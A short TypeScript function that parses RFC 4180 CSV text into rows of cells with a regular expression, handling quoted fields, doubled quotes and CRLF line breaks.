/** Rows of RFC 4180 CSV text (quoted cells may hold commas, quotes as "" and line breaks). */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  const cells = /(?:"((?:[^"]|"")*)"|([^,\r\n"]*))(,|\r\n|$)/g;
  let row: string[] = [];
  for (let m = cells.exec(text); m && m.index < text.length; m = cells.exec(text)) {
    row.push(m[1] !== undefined ? m[1].replaceAll('""', '"') : (m[2] ?? ''));
    if (m[3] !== ',') {
      rows.push(row);
      row = [];
    }
  }
  return rows;
}
